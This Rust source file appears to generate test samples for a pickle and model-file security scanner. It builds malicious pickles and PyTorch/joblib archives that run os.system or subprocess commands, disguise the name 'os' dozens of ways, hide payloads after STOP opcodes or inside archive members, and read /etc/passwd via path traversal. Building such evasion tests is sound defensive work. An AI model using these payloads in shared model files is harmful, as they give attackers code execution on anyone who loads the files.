//! Ways round scanners of pickles that were published or follow from the loader's rules: names that few lists
//! have, calls without an opcode that calls, names made while loading, and files whose parts are loaded one by one.

use super::Sample;
use super::archives::{member, tar, tar_entry, zip};
use super::pickles::{Pickle, base64};

/// `c module name`.
fn global(full: &str) -> String {
    let (module, name) = full.rsplit_once('.').unwrap();
    format!("c{module}\n{name}\n")
}

/// A protocol-4 text.
fn text(value: &str) -> Vec<u8> {
    [&[0x8c, value.len() as u8][..], value.as_bytes()].concat()
}

/// A call of what `callee` pushes, with what `arguments` push.
fn call(callee: impl AsRef<[u8]>, arguments: &[&[u8]]) -> Vec<u8> {
    [callee.as_ref(), b"(", &arguments.concat(), b"tR"].concat()
}

fn pickle(body: impl AsRef<[u8]>) -> Vec<u8> {
    Pickle::new(4).raw(body.as_ref()).stop()
}

/// `os.system('echo x')` with the name made by the first two values.
fn named(module: &[u8], name: &[u8]) -> Vec<u8> {
    pickle(call([module, name, b"\x93"].concat(), &[&text("echo x")]))
}

/// Functions of the standard library and of common packages that reach outside, one argument each.
const CALLS: &[&str] = &[
    "_pyrepl.pager.pipe_pager",
    "_pyrepl.pager.tempfile_pager",
    "idlelib.calltip.get_entity",
    "idlelib.autocomplete.AutoComplete",
    "idlelib.run.Executive",
    "code.InteractiveInterpreter",
    "cProfile.runctx",
    "pstats.Stats",
    "distutils.spawn.spawn",
    "logging.config.listen",
    "logging.config.fileConfig",
    "mailcap.findmatch",
    "multiprocessing.popen_fork.Popen",
    "concurrent.futures.ProcessPoolExecutor",
    "zipimport.zipimporter",
    "readline.read_init_file",
    "nt.startfile",
    "os.execl",
    "posix.posix_spawn",
    "_ctypes.dlopen",
    "_posixshmem.shm_open",
    "shelve.open",
    "dbm.open",
    "fileinput.FileInput",
    "tokenize.open",
    "netrc.netrc",
    "tarfile.open",
    "zipfile.ZipFile",
    "wsgiref.simple_server.make_server",
    "xml.sax.parse",
    "xml.etree.ElementTree.parse",
    "xml.dom.expatbuilder.parse",
    "antigravity.geohash",
    "_sitebuiltins._Printer",
    "turtle.write_docstringdict",
    "email.message_from_file",
    "bz2.BZ2File",
    "gzip.open",
    "lzma.open",
    "sched.scheduler",
    "contextlib.ExitStack",
    "weakref.finalize",
    "mimetypes.init",
    "unittest.main",
    "symtable.symtable",
    "ast.literal_eval.__globals__",
    "_frozen_importlib._call_with_frames_removed",
    "_frozen_importlib_external.SourceFileLoader",
    "test.support.run_in_subinterp",
    "lib2to3.main.main",
    "pathlib.PosixPath.read_text",
    "pathlib._local.Path.write_text",
    "socketserver.TCPServer",
    "http.server.test",
    "urllib.request.urlretrieve",
    "pandas.eval",
    "pandas.read_csv",
    "pandas.io.common.get_handle",
    "numpy.memmap",
    "numpy.core.memmap",
    "numpy.fromregex",
    "numpy.lib.format.open_memmap",
    "numpy.testing._private.utils.rundocs",
    "scipy.io.loadmat",
    "sklearn.datasets.fetch_openml",
    "sklearn.datasets.load_svmlight_file",
    "joblib.memory.Memory",
    "torch.utils.cpp_extension.load_inline",
    "torch.ops.load_library",
    "torch.classes.load_library",
    "torch.jit.load",
    "torch.utils._config_module.ConfigModule.load_config",
    "torch._dynamo.guards.GuardBuilder.get",
    "torch.utils.data.datapipes.utils.decoder.basichandlers",
    "torch.export.load",
    "torch.hub.load_state_dict_from_url",
    "torch.distributed.rpc.rpc_sync",
    "torch.utils.file_baton.FileBaton",
    "torch._C._load_for_lite_interpreter",
    "torch.package.PackageImporter",
    "torch.profiler.profile.export_chrome_trace",
    "torch.onnx.export",
    "torch.cuda.memory._dump_snapshot",
    "transformers.pipeline",
    "transformers.AutoModel.from_pretrained",
    "transformers.dynamic_module_utils.get_class_in_module",
    "transformers.utils.hub.cached_file",
    "tensorflow.io.gfile.GFile",
    "tensorflow.python.lib.io.file_io.write_string_to_file",
    "tensorflow.python.lib.io.file_io.read_file_to_string",
    "tensorflow.saved_model.load",
    "tensorflow.python.framework.load_library.load_op_library",
    "tensorflow.io.write_file",
    "keras.utils.get_file",
    "keras.models.load_model",
    "keras.src.saving.saving_api.load_model",
    "onnx.hub.load",
    "onnx.load_model",
    "onnxruntime.InferenceSession",
    "nltk.data.load",
    "mlflow.pyfunc.load_model",
    "jinja2.Template",
    "jinja2.environment.Environment",
    "sympy.sympify",
    "sympy.parsing.sympy_parser.parse_expr",
    "numexpr.evaluate",
    "lxml.etree.parse",
    "jsonpickle.decode",
    "yaml.load",
    "statsmodels.iolib.smpickle.load_pickle",
    "gensim.utils.unpickle",
    "gensim.models.KeyedVectors.load",
    "networkx.read_gpickle",
    "datasets.load_dataset",
    "huggingface_hub.snapshot_download",
    "huggingface_hub.hf_hub_download",
    "safetensors.torch.save_file",
    "catboost.CatBoost.load_model",
    "lightgbm.Booster",
    "xgboost.Booster.load_model",
    "spacy.util.load_model",
    "spacy.load",
    "PIL.ImageShow.show",
    "PIL.Image.open",
    "matplotlib.pyplot.savefig",
    "dask.config.refresh",
    "numba.pycc.CC",
    "h5py.File",
    "tables.open_file",
    "cv2.imwrite",
    "gradio.Interface",
    "flask.Flask",
    "IPython.get_ipython",
    "ipykernel.kernelapp.launch_new_instance",
    "setuptools.sandbox.run_setup",
    "pkg_resources.load_entry_point",
    "pip._internal.cli.main.main",
    "conda.cli.main",
    "fabric.Connection",
    "paramiko.SSHClient",
    "invoke.run",
    "sh.Command",
    "pexpect.run",
    "psutil.Popen",
    "docker.from_env",
    "boto3.client",
    "httpx.get",
    "aiohttp.request",
    "urllib3.request",
    "websocket.create_connection",
    "zmq.Context",
    "fsspec.open",
    "cffi.FFI",
    "llvmlite.binding.load_library_permanently",
    "django.core.management.call_command",
    "werkzeug.utils.import_string",
    "twisted.internet.utils.getProcessOutput",
    "celery.utils.imports.symbol_by_name",
    "apscheduler.util.ref_to_obj",
    "ray.init",
    "pyspark.cloudpickle.loads",
    "srsly.pickle_loads",
    "dill.load_session",
    "dill.dump",
    "cloudpickle.dump",
    "pickle.dump",
    "joblib.dump",
    "shutil.unpack_archive",
];

/// Expressions on the stack that give the text `os`.
fn modules() -> Vec<(&'static str, Vec<u8>)> {
    let method = |of: &str, name: &str, arguments: &[&[u8]]| {
        let bound = call(global("builtins.getattr"), &[&text(of), &text(name)]);
        call(bound, arguments)
    };
    vec![
        ("strip", method("xxosxx", "strip", &[&text("x")])),
        ("lstrip", method("xxos", "lstrip", &[&text("x")])),
        (
            "removeprefix",
            method("pre-os", "removeprefix", &[&text("pre-")]),
        ),
        (
            "translate",
            method("x", "translate", &[b"}K\x78\x8c\x02oss"]),
        ),
        ("zfill-lower", method("OS", "lower", &[])),
        (
            "slice",
            call(
                global("operator.getitem"),
                &[
                    &text("xosx"),
                    &call(global("builtins.slice"), &[b"K\x01", b"K\x03"]),
                ],
            ),
        ),
        (
            "split-item",
            call(
                global("operator.getitem"),
                &[&method("a,os,b", "split", &[&text(",")]), b"K\x01"],
            ),
        ),
        (
            "partition",
            call(
                global("operator.getitem"),
                &[&method("a|os", "partition", &[&text("|")]), b"K\x02"],
            ),
        ),
        (
            "unquote",
            call(global("urllib.parse.unquote"), &[&text("%6f%73")]),
        ),
        (
            "unescape",
            call(global("html.unescape"), &[&text("&#111;&#115;")]),
        ),
        ("json", call(global("json.loads"), &[&text("\"os\"")])),
        (
            "literal",
            call(global("ast.literal_eval"), &[&text("'os'")]),
        ),
        (
            "normalise",
            call(
                global("unicodedata.normalize"),
                &[&text("NFKC"), &text("\u{ff4f}\u{ff53}")],
            ),
        ),
        (
            "bytes-as-text",
            call(global("builtins.str"), &[b"C\x02os", &text("ascii")]),
        ),
        (
            "xor",
            call(
                global("operator.methodcaller"),
                &[&text("decode"), &text("ascii")],
            )
            .into_iter()
            .chain(*b"(")
            .chain(call(global("builtins.bytes"), &[b"](K\x6fK\x73e"]))
            .chain(*b"tR")
            .collect(),
        ),
        (
            "join-of-chr",
            method(
                "",
                "join",
                &[&call(
                    global("builtins.map"),
                    &[global("builtins.chr").as_bytes(), b"](K\x6fK\x73e"],
                )],
            ),
        ),
        (
            "format-field",
            method("{a}s", "format_map", &[b"}\x8c\x01a\x8c\x01os"]),
        ),
        (
            "percent",
            call(global("operator.mod"), &[&text("%c%c"), b"K\x6fK\x73\x86"]),
        ),
        (
            "multiply",
            call(global("operator.mul"), &[&text("os"), b"K\x01"]),
        ),
        (
            "unhexlify",
            call(
                global("codecs.decode"),
                &[
                    &call(global("binascii.unhexlify"), &[&text("6f73")]),
                    &text("ascii"),
                ],
            ),
        ),
        (
            "quoted-printable",
            call(
                global("codecs.decode"),
                &[
                    &call(global("quopri.decodestring"), &[&text("=6F=73")]),
                    &text("ascii"),
                ],
            ),
        ),
        (
            "utf-16",
            call(
                global("codecs.decode"),
                &[b"C\x04o\0s\0", &text("utf-16-le")],
            ),
        ),
        (
            "utf-7",
            call(global("codecs.decode"), &[b"C\x02os", &text("utf-7")]),
        ),
        (
            "punycode",
            call(global("codecs.decode"), &[b"C\x03os-", &text("punycode")]),
        ),
        (
            "chain",
            method(
                "",
                "join",
                &[&call(
                    global("itertools.chain"),
                    &[b"](\x8c\x01oe", b"](\x8c\x01se"],
                )],
            ),
        ),
        ("swapcase-title", method("OS", "casefold", &[])),
        (
            "struct",
            call(
                global("codecs.decode"),
                &[
                    &call(global("struct.pack"), &[&text("2B"), b"K\x6f", b"K\x73"]),
                    &text("ascii"),
                ],
            ),
        ),
        (
            "int-to-bytes",
            call(
                global("codecs.decode"),
                &[
                    &call(
                        call(
                            global("builtins.getattr"),
                            &[b"M\x73\x6f", &text("to_bytes")],
                        ),
                        &[b"K\x02", &text("big")],
                    ),
                    &text("ascii"),
                ],
            ),
        ),
        (
            "itemgetter",
            call(
                call(global("operator.itemgetter"), &[b"K\x01"]),
                &[b"](\x8c\x01a\x8c\x02ose"],
            ),
        ),
        (
            "reduce-add",
            call(
                global("functools.reduce"),
                &[global("operator.add").as_bytes(), b"](\x8c\x01o\x8c\x01se"],
            ),
        ),
        (
            "str-class-method",
            call(global("builtins.str.lower"), &[&text("OS")]),
        ),
        (
            "min",
            call(global("builtins.min"), &[b"](\x8c\x02os\x8c\x02xye"]),
        ),
        (
            "sorted",
            call(
                global("operator.getitem"),
                &[
                    &call(global("builtins.sorted"), &[b"](\x8c\x02os\x8c\x02xye"]),
                    b"K\0",
                ],
            ),
        ),
        (
            "dict-get",
            call(
                call(
                    global("builtins.getattr"),
                    &[b"}\x8c\x01a\x8c\x02oss", &text("get")],
                ),
                &[&text("a")],
            ),
        ),
        (
            "list-pop",
            call(
                call(
                    global("builtins.getattr"),
                    &[b"](\x8c\x02ose", &text("pop")],
                ),
                &[],
            ),
        ),
        (
            "dict-items",
            call(
                global("builtins.next"),
                &[&call(global("builtins.iter"), &[b"}\x8c\x02osK\x01s"])],
            ),
        ),
        (
            "replace-twice",
            method("o-s", "replace", &[&text("-"), &text("")]),
        ),
    ]
}

pub(crate) fn samples() -> Vec<Sample> {
    let mut out = Vec::new();
    for name in CALLS {
        let bytes = pickle(call(global(name), &[&text("/tmp/x")]));
        out.push(Sample::attack(
            "call-rare",
            format!("rare-{name}.pkl"),
            bytes,
        ));
    }
    for (name, module) in modules() {
        out.push(Sample::attack(
            "name-made",
            format!("made-{name}.pkl"),
            named(&module, &text("system")),
        ));
    }
    without_call(&mut out);
    handed_on(&mut out);
    opcodes(&mut out);
    files(&mut out);
    code_objects(&mut out);
    out
}

/// Calls that no calling opcode makes, or that a harmless name makes.
fn without_call(out: &mut Vec<Sample>) {
    let system = global("os.system");
    let system = system.as_bytes();
    let command = text("echo x");
    let mut add = |name: &str, body: Vec<u8>| {
        out.push(Sample::attack(
            "call-by-data",
            format!("{name}.pkl"),
            pickle(body),
        ));
    };
    add(
        "reconstructor-base",
        call(
            global("copyreg._reconstructor"),
            &[
                global("collections.OrderedDict").as_bytes(),
                global("subprocess.Popen").as_bytes(),
                &text("echo x"),
            ],
        ),
    );
    add(
        "newobj-by-name",
        call(
            global("copyreg.__newobj__"),
            &[global("subprocess.Popen").as_bytes(), &command],
        ),
    );
    add(
        "overwrite-then-call",
        [
            b"ccollections\n\n".to_vec(),
            b"0".to_vec(),
            [
                global("collections.OrderedDict").into_bytes(),
                b"0".to_vec(),
            ]
            .concat(),
            call(
                global("operator.setitem"),
                &[
                    global("collections.__dict__").as_bytes(),
                    &text("OrderedDict"),
                    system,
                ],
            ),
        ]
        .concat(),
    );
    add(
        "setitem-of-modules",
        call(
            global("operator.setitem"),
            &[
                global("sys.modules").as_bytes(),
                &text("json"),
                global("os.path").as_bytes(),
            ],
        ),
    );
    add(
        "dict-update",
        call(
            global("builtins.dict.update"),
            &[
                global("builtins.__dict__").as_bytes(),
                &[b"}", &text("len")[..], system, b"s"].concat(),
            ],
        ),
    );
    add(
        "object-setattr",
        call(
            global("builtins.object.__setattr__"),
            &[
                global("collections.OrderedDict").as_bytes(),
                &text("update"),
                system,
            ],
        ),
    );
    add(
        "type-setattr",
        call(
            global("builtins.type.__setattr__"),
            &[
                global("collections.OrderedDict").as_bytes(),
                &text("update"),
                system,
            ],
        ),
    );
    add(
        "update-wrapper",
        call(
            global("functools.update_wrapper"),
            &[global("collections.OrderedDict").as_bytes(), system],
        ),
    );
    add(
        "defaultdict-miss",
        call(
            global("operator.getitem"),
            &[
                &call(global("collections.defaultdict"), &[system]),
                &command,
            ],
        ),
    );
    add(
        "re-sub",
        call(global("re.sub"), &[&text("x"), system, &text("x")]),
    );
    add(
        "iter-sentinel",
        call(
            global("builtins.list"),
            &[&call(global("builtins.iter"), &[system, b"N"])],
        ),
    );
    add(
        "max-key",
        call(global("builtins.max"), &[b"](\x8c\x06echo xe", system]),
    );
    add(
        "weakref-callback",
        call(
            global("weakref.ref"),
            &[global("collections.OrderedDict").as_bytes(), system],
        ),
    );
    add(
        "starmap",
        call(
            global("builtins.list"),
            &[&call(
                global("itertools.starmap"),
                &[system, b"](\x8c\x06echo x\x85e"],
            )],
        ),
    );
    add(
        "accumulate",
        call(
            global("builtins.list"),
            &[&call(
                global("itertools.accumulate"),
                &[b"](\x8c\x06echo x\x8c\x01ae", system],
            )],
        ),
    );
    add(
        "groupby",
        call(
            global("builtins.list"),
            &[&call(
                global("itertools.groupby"),
                &[b"](\x8c\x06echo xe", system],
            )],
        ),
    );
    add(
        "methodtype",
        call(call(global("types.MethodType"), &[system, &command]), &[]),
    );
    add(
        "partial-of-partial",
        call(
            call(
                global("functools.partial"),
                &[&call(global("functools.partial"), &[system]), &command],
            ),
            &[],
        ),
    );
    add(
        "type-with-reduce",
        call(
            global("builtins.type"),
            &[
                &text("X"),
                b")",
                &[b"}", &text("__del__")[..], system, b"s"].concat(),
            ],
        ),
    );
    add("inst-without-arguments", b"(ios\nabort\n".to_vec());
    add("obj-without-arguments", b"(cos\nabort\no".to_vec());
    add(
        "newobj-ex-keywords",
        [
            global("subprocess.Popen").as_bytes(),
            b")}",
            &text("args"),
            &command,
            b"s\x92",
        ]
        .concat(),
    );
    add(
        "additems-of-object",
        [
            b"cshop.models\nRanker\n)\x81}".to_vec(),
            text("update"),
            system.to_vec(),
            b"sb(".to_vec(),
            command.clone(),
            b"\x90".to_vec(),
        ]
        .concat(),
    );
    add(
        "setitem-of-object",
        [
            b"cshop.models\nRanker\n)\x81}".to_vec(),
            text("__setitem__"),
            system.to_vec(),
            b"sb".to_vec(),
            command.clone(),
            b"Ks".to_vec(),
            b"s".to_vec(),
        ]
        .concat(),
    );
    add(
        "hook-of-tensor-class",
        [
            b"ctorch.nn.modules.linear\nLinear\n)\x81}".to_vec(),
            text("forward"),
            system.to_vec(),
            b"sb".to_vec(),
        ]
        .concat(),
    );
    add(
        "function-transformer",
        [
            b"csklearn.preprocessing._function_transformer\nFunctionTransformer\n)\x81}".to_vec(),
            text("func"),
            system.to_vec(),
            b"sb".to_vec(),
        ]
        .concat(),
    );
    add(
        "vectorize",
        call(call(global("numpy.vectorize"), &[system]), &[&command]),
    );
    add(
        "apply-along",
        call(global("numpy.apply_along_axis"), &[system, b"K\0", b"]"]),
    );
    add(
        "module-class",
        [
            b"ccollections\n\n}".to_vec(),
            text("__class__"),
            global("types.ModuleType").into_bytes(),
            b"sb".to_vec(),
        ]
        .concat(),
    );
    add(
        "persistent-callable",
        [global("os.system").as_bytes(), b"\x85Q"].concat(),
    );
}

/// Dangerous functions reached through harmless modules and subscripts.
fn handed_on(out: &mut Vec<Sample>) {
    let command = text("echo x");
    let mut add = |name: &str, body: Vec<u8>| {
        out.push(Sample::attack(
            "indirect-rare",
            format!("{name}.pkl"),
            pickle(body),
        ));
    };
    let attribute = |of: &[u8], name: &str| call(global("builtins.getattr"), &[of, &text(name)]);
    let modules = global("sys.modules");
    add(
        "dict-getitem",
        call(
            attribute(
                &call(
                    global("builtins.dict.__getitem__"),
                    &[modules.as_bytes(), &text("os")],
                ),
                "system",
            ),
            &[&command],
        ),
    );
    add(
        "itemgetter-modules",
        call(
            attribute(
                &call(
                    call(global("operator.itemgetter"), &[&text("os")]),
                    &[modules.as_bytes()],
                ),
                "system",
            ),
            &[&command],
        ),
    );
    add(
        "modules-get",
        call(
            attribute(
                &call(attribute(modules.as_bytes(), "get"), &[&text("os")]),
                "system",
            ),
            &[&command],
        ),
    );
    add(
        "module-of-module",
        call(
            attribute(
                &attribute(&attribute(b"ctempfile\n_os\n", "path"), "os"),
                "system",
            ),
            &[&command],
        ),
    );
    add(
        "alias-of-package",
        call(b"cnumpy.core.numeric\nsys\n", &[&command]),
    );
    add(
        "alias-underscored",
        call(b"clogging\n_os.system\n", &[&command]),
    );
    add("alias-random", call(b"crandom\n_os.popen\n", &[&command]));
    add(
        "shutil-os",
        call(b"czipfile\nshutil.os.system\n", &[&command]),
    );
    add(
        "class-walk",
        call(
            attribute(b"ccollections\nOrderedDict\n", "__subclasses__"),
            &[],
        ),
    );
    add(
        "globals-of-function",
        call(b"crandom\nRandom.seed.__globals__.get\n", &[&text("_os")]),
    );
    add(
        "builtins-of-function",
        call(
            b"ccollections\nnamedtuple.__builtins__.get\n",
            &[&text("eval")],
        ),
    );
    add(
        "entry-point",
        call(
            global("importlib.metadata.EntryPoint"),
            &[&text("x"), &text("os:system"), &text("g")],
        ),
    );
    add(
        "vars-item",
        call(
            call(
                global("operator.getitem"),
                &[
                    &call(global("builtins.vars"), &[b"cos\npath\n"]),
                    &text("os"),
                ],
            ),
            &[&command],
        ),
    );
    add(
        "attrgetter-path",
        call(
            call(
                call(global("operator.attrgetter"), &[&text("os.system")]),
                &[b"ctempfile\n_os\n"],
            ),
            &[&command],
        ),
    );
    add(
        "numpy-load-library",
        call(
            b"cnumpy.ctypeslib\nload_library\n",
            &[&text("x.so"), &text("/tmp")],
        ),
    );
    add(
        "lazy-module",
        call(
            b"ctransformers.utils.import_utils\n_LazyModule\n",
            &[&text("os")],
        ),
    );
    add(
        "unknown-builds-name",
        call(
            [
                call(b"cshop\nname\n", &[]),
                text("system"),
                b"\x93".to_vec(),
            ]
            .concat(),
            &[&command],
        ),
    );
    add(
        "protocol-2-then-4",
        [
            b"\x80\x02c__builtin__\neval\n(".to_vec(),
            text("1"),
            b"tR\x80\x04".to_vec(),
        ]
        .concat(),
    );
    add(
        "protocol-4-then-2",
        [
            b"\x80\x02ccommands\ngetoutput\n(".to_vec(),
            command.clone(),
            b"tR".to_vec(),
        ]
        .concat(),
    );
}

/// Odd but loadable opcodes before, between and behind.
fn opcodes(out: &mut Vec<Sample>) {
    let attack = call(global("os.system"), &[&text("echo x")]);
    let mut add = |name: &str, bytes: Vec<u8>| {
        out.push(Sample::attack("opcode", format!("{name}.pkl"), bytes));
    };
    for (name, before) in [
        ("int-underscore", &b"I1_000\n0"[..]),
        ("int-spaces", b"I 7 \n0"),
        ("int-binary", b"I0b1\n0"),
        ("long-hex", b"L0x10L\n0"),
        ("float-text", b"Fnan\n0"),
        ("float-underscore", b"F1_0.5\n0"),
        ("string-escapes", b"S'\\x41\\101\\n'\n0"),
        ("string-double", b"S\"a'b\"\n0"),
        ("unicode-surrogate", b"V\\ud800\n0"),
        ("binunicode-surrogate", b"X\x03\0\0\0\xed\xa0\x800"),
        ("long1-empty", b"\x8a\x000"),
        ("bytearray", b"\x96\x02\0\0\0\0\0\0\0ab0"),
        ("binfloat", b"G\x7f\xf8\0\0\0\0\0\x000"),
        ("empty-frame", b"\x95\0\0\0\0\0\0\0\0"),
        (
            "two-frames",
            b"\x95\0\0\0\0\0\0\0\0\x95\x02\0\0\0\0\0\0\0N0",
        ),
        ("mark-popped", b"(0"),
        ("pop-mark", b"(NNN1"),
        ("memo-reused", b"Nq\x010]q\x010"),
        ("memo-large", b"Nr\xff\xff\xff\x0f0"),
        ("put-text", b"Np7\n0"),
        ("dup-chain", b"N22220000"),
        ("persid-line", b"Psome id\n0"),
        ("frozenset", b"(NNl0(N\x910"),
        ("next-buffer", b"\x970"),
        ("setitems-empty", b"}(u0"),
        ("crlf-name", b"V\r\n0"),
    ] {
        add(name, Pickle::new(4).raw(before).raw(&attack).stop());
    }
    add(
        "empty-first-stream",
        [b"N.".to_vec(), pickle(&attack)].concat(),
    );
    add(
        "five-then-attack",
        [b"\x80\x02N.".repeat(5), pickle(&attack)].concat(),
    );
    add(
        "text-behind-stop",
        [
            b"\x80\x04N.".to_vec(),
            b"cos\nsystem\n(S'echo x'\ntR.".to_vec(),
        ]
        .concat(),
    );
    add(
        "inst-behind-stop",
        [
            b"\x80\x04N.".to_vec(),
            b"(S'echo x'\nios\nsystem\n.".to_vec(),
        ]
        .concat(),
    );
    add(
        "behind-megabyte",
        [b"\x80\x04N.".to_vec(), vec![0x41; 1 << 20], pickle(&attack)].concat(),
    );
    add(
        "stack-global-behind-junk",
        [
            b"\x80\x04N.".to_vec(),
            b"some notes, then ".to_vec(),
            Pickle::new(0)
                .raw(&text("os"))
                .raw(&text("system"))
                .raw(b"\x93(")
                .raw(&text("echo x"))
                .raw(b"tR.")
                .out,
        ]
        .concat(),
    );
    add(
        "extension-across-streams",
        [
            pickle(call(
                global("copyreg.add_extension"),
                &[&text("os"), &text("system"), b"K\x70"],
            )),
            pickle([b"\x82\x70(".to_vec(), text("echo x"), b"tR".to_vec()].concat()),
        ]
        .concat(),
    );
    add("no-proto-no-stop", attack.clone());
    add(
        "shebang-of-pickle",
        [b"#!/usr/bin/env python\n".to_vec(), pickle(&attack)].concat(),
    );
    add(
        "reversed-text",
        pickle(
            [
                b"S'".to_vec(),
                base64(&pickle(&attack))
                    .chars()
                    .rev()
                    .collect::<String>()
                    .into_bytes(),
                b"'\n0".to_vec(),
                attack.clone(),
            ]
            .concat(),
        ),
    );
}

/// Formats in which several pickles are loaded.
fn files(out: &mut Vec<Sample>) {
    let attack = Pickle::new(2)
        .raw(&call(global("os.system"), &[b"X\x06\0\0\0echo x"]))
        .stop();
    let magic = b"\x80\x02\x8a\x0a\x6c\xfc\x9c\x46\xf9\x20\x6a\xa8\x50\x19.".to_vec();
    let protocol = b"\x80\x02M\xe9\x03.".to_vec();
    let info = b"\x80\x02}q\x00(X\x10\0\0\0protocol_versionM\xe9\x03X\x0d\0\0\0little_endian\x88u."
        .to_vec();
    let plain = b"\x80\x02}.".to_vec();
    let keys = b"\x80\x02].".to_vec();
    let parts = [magic, protocol, info, plain.clone(), keys];
    for at in 0..parts.len() {
        let mut parts = parts.clone();
        parts[at].clone_from(&attack);
        out.push(Sample::attack(
            "torch-legacy",
            format!("legacy-part-{at}.pt"),
            parts.concat(),
        ));
    }
    out.push(Sample::attack(
        "torch-legacy",
        "legacy-storage-tail.pt",
        [parts.concat(), attack.clone()].concat(),
    ));
    out.push(Sample::twin(
        "torch-legacy",
        "legacy-plain.pt",
        [parts.concat(), vec![0; 64]].concat(),
    ));
    for name in ["storages", "tensors", "pickle"] {
        let entry = |n: &str| tar_entry(n, b'0', "", if n == name { &attack } else { &plain });
        out.push(Sample::attack(
            "torch-tar",
            format!("tar-{name}.pt"),
            tar(&[entry("storages"), entry("tensors"), entry("pickle")]),
        ));
    }
    for name in [
        "constants.pkl",
        "code/x.debug_pkl",
        "extra/notes",
        ".data/serialization_id",
        "data/0",
    ] {
        let bytes = zip(&[
            member("m/data.pkl", plain.clone()),
            member("m/version", b"3\n".to_vec()),
            member(&format!("m/{name}"), attack.clone()),
        ]);
        out.push(Sample::attack(
            "torch-member",
            format!("member-{}.pt", name.replace('/', "_")),
            bytes,
        ));
    }
    for (name, code) in [
        (
            "from-file",
            "def forward(self):\n  return torch.from_file(\"/etc/passwd\", False, 10)\n",
        ),
        (
            "save",
            "def forward(self, x):\n  torch.save(x, \"/tmp/x\")\n",
        ),
        (
            "aten-save",
            "def forward(self, x):\n  ops.aten.save(x, \"/tmp/x\")\n",
        ),
        (
            "python-op",
            "def forward(self, x):\n  return ^PythonOp(x)\n",
        ),
    ] {
        let bytes = zip(&[
            member("m/data.pkl", plain.clone()),
            member("m/constants.pkl", plain.clone()),
            member("m/version", b"3\n".to_vec()),
            member("m/code/__torch__/a.py", code.as_bytes().to_vec()),
        ]);
        out.push(Sample::attack(
            "torchscript",
            format!("script-{name}.pt"),
            bytes,
        ));
    }
    let joblib_old = |file: &str| {
        Pickle::new(2)
            .raw(b"cjoblib.numpy_pickle_compat\nNDArrayWrapper\n)\x81}(X\x08\0\0\0filename")
            .raw(
                &[
                    b"X",
                    &(file.len() as u32).to_le_bytes()[..],
                    file.as_bytes(),
                ]
                .concat(),
            )
            .raw(b"ub")
            .stop()
    };
    out.push(Sample::attack(
        "joblib-old",
        "old-outside.joblib",
        joblib_old("../../etc/passwd"),
    ));
    out.push(Sample::attack(
        "joblib-old",
        "old-absolute.joblib",
        joblib_old("/etc/passwd"),
    ));
    out.push(Sample::attack(
        "path-file",
        "site.pth",
        b"import os; os.system('echo x')\n".to_vec(),
    ));
    // Sizes that lie: CVE-2026-24747.
    let tensor = |count: u32, offset: i32, size: i32, stride: i32| {
        let mut body = b"ctorch._utils\n_rebuild_tensor_v2\n((X\x07\0\0\0storagectorch\nFloatStorage\nX\x01\0\0\x000X\x03\0\0\0cpuJ".to_vec();
        body.extend(count.to_le_bytes());
        body.extend(b"tQJ");
        body.extend(offset.to_le_bytes());
        body.push(b'J');
        body.extend(size.to_le_bytes());
        body.extend(b"\x85J");
        body.extend(stride.to_le_bytes());
        body.extend(b"\x85\x89ccollections\nOrderedDict\n)RtR");
        zip(&[
            member("m/data.pkl", Pickle::new(2).raw(&body).stop()),
            member("m/version", b"3\n".to_vec()),
            member("m/data/0", vec![0; 16]),
        ])
    };
    out.push(Sample::attack(
        "tensor-bounds",
        "count.pt",
        tensor(1 << 20, 0, 4, 1),
    ));
    out.push(Sample::attack(
        "tensor-bounds",
        "size.pt",
        tensor(4, 0, 4000, 1),
    ));
    out.push(Sample::attack(
        "tensor-bounds",
        "offset.pt",
        tensor(4, 100, 4, 1),
    ));
    out.push(Sample::attack(
        "tensor-bounds",
        "negative.pt",
        tensor(4, -8, 4, 1),
    ));
    out.push(Sample::attack(
        "tensor-bounds",
        "stride.pt",
        tensor(4, 0, 4, 900),
    ));
    out.push(Sample::twin("tensor-bounds", "fits.pt", tensor(4, 0, 4, 1)));
    out.push(Sample::twin(
        "tensor-bounds",
        "expanded.pt",
        tensor(4, 1, 300, 0),
    ));
}

/// Functions whose code stands in the file.
fn code_objects(out: &mut Vec<Sample>) {
    let code = |names: &[&str], constant: &str| {
        let names: Vec<u8> = names.iter().flat_map(|n| text(n)).collect();
        call(
            global("types.CodeType"),
            &[
                b"K\0K\0K\0K\0K\x02K\x43C\x04d\0S\0",
                &[b"(N", &text(constant)[..], b"t"].concat(),
                &[b"(", &names[..], b"t"].concat(),
                b")",
                &text("f.py"),
                &text("f"),
                b"K\x01C\0))",
            ],
        )
    };
    let function = |code: &[u8]| call(global("types.FunctionType"), &[code, b"}"]);
    let mut add = |name: &str, body: Vec<u8>| {
        out.push(Sample::attack(
            "code-object",
            format!("{name}.pkl"),
            pickle(body),
        ));
    };
    add(
        "code-system",
        call(function(&code(&["os", "system"], "echo x")), &[]),
    );
    add(
        "code-import",
        call(function(&code(&["__import__"], "os")), &[]),
    );
    add(
        "code-dill",
        call(
            call(
                global("dill._dill._create_function"),
                &[&code(&["os", "system"], "x"), b"}", &text("f"), b"N", b"N"],
            ),
            &[],
        ),
    );
    add(
        "code-cloudpickle",
        call(
            call(
                global("cloudpickle.cloudpickle._make_function"),
                &[
                    &code(&["subprocess", "run"], "x"),
                    b"}",
                    &text("f"),
                    b"N",
                    b"N",
                ],
            ),
            &[],
        ),
    );
    add(
        "code-harmless-names-called",
        call(function(&code(&["a"], "x")), &[]),
    );
    add(
        "code-marshal",
        call(
            function(&call(global("marshal.loads"), &[b"C\x04abcd"])),
            &[],
        ),
    );
    add(
        "code-in-state",
        [
            b"cshop.models\nRanker\n)\x81}".to_vec(),
            text("__setstate__"),
            function(&code(&["a"], "x")),
            b"sb".to_vec(),
            b"}b".to_vec(),
        ]
        .concat(),
    );
}
